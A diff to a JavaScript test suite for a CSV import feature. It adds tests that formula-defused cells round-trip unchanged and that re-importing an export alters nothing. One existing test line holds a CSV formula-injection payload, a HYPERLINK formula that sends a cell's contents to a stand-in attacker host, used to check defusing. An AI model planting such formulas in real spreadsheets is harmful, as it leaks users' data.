@@ -155,6 +155,12 @@ describe('CSV import', () => {
     expect(await items()).toEqual([]);
   });
 
+  it('hands back a cell the export made spreadsheet-safe as it was, not with a second apostrophe', async () => {
+    const csv = `${HEADER}\n,'=1+1,blog,,\n`;
+    const res = await postMultipart(admin, '/t/studio/items/import/problems.csv', { csv, ...MAPPING, on_duplicate: 'skip' });
+    expect(res.text.trim().split('\n')[1]).toBe("2,column “Title” is required,,'=1+1,blog,,");
+  });
+
   it('defuses formulas in the header line of the problems CSV too', async () => {
     const csv = '"=HYPERLINK(""http://evil.example/?""&C2,""Click"")",@cmd,+x,-y\n,a,b,c\n';
     const res = await postMultipart(admin, '/t/studio/items/import/problems.csv', { csv, map_title: '0', on_duplicate: 'skip' });
@@ -272,6 +278,41 @@ describe('CSV import', () => {
     expect(res.status).toBe(400);
     expect(res.text).toContain('line 3: repeats line 2');
     expect(await items()).toEqual([]);
+  });
+
+  describe('an export imported back unchanged', () => {
+    const EXPORT_MAPPING = { map_title: '1', map_body: '2', map_channel: '3', map_tags: '4', map_scheduled_at: '5' };
+    const exported = async () => {
+      const res = await admin.get('/t/studio/items.csv');
+      expect(res.status).toBe(200);
+      return res.text;
+    };
+
+    beforeEach(async () => {
+      await makeItem(t.platform, tenant, { title: '=1+1', body: '-5 degrees, "cold"\nsecond line', channel: 'blog', tags: ['café', 'naïve art'] });
+      await makeItem(t.platform, tenant, { title: '@team: launch', body: ' +1 from me', scheduledAt: Date.UTC(2031, 2, 1, 9, 30) });
+      await makeItem(t.platform, tenant, { title: "'=quoted already", body: "'plain" });
+    });
+
+    it('finds every row a duplicate of its item, formula-like titles too, and creates nothing', async () => {
+      const csv = await exported();
+      const before = await tenantContent(t.platform, tenant);
+      const preview = await postMultipart(admin, '/t/studio/items/import', { csv: '' }, { field: 'file', name: 'items.csv', content: csv });
+      expect(preview.text).toContain('0 to create');
+      expect(preview.text).toContain('3 to skip');
+      const res = await commit(csv, EXPORT_MAPPING);
+      expect(res.status).toBe(400);
+      expect(res.text).toContain('the file holds nothing to import');
+      expect(await tenantContent(t.platform, tenant)).toEqual(before);
+    });
+
+    it('changes no field of any item when duplicates are updated', async () => {
+      const before = await tenantContent(t.platform, tenant);
+      const res = await commit(await exported(), { ...EXPORT_MAPPING, on_duplicate: 'update' });
+      expect(res.status).toBe(303);
+      expect(res.headers.location).toBe('/t/studio/items?imported=0&updated=3&skipped=0');
+      expect(await tenantContent(t.platform, tenant)).toEqual(before);
+    });
   });
 
   describe('a row with the same title and scheduled time as an existing item', () => {
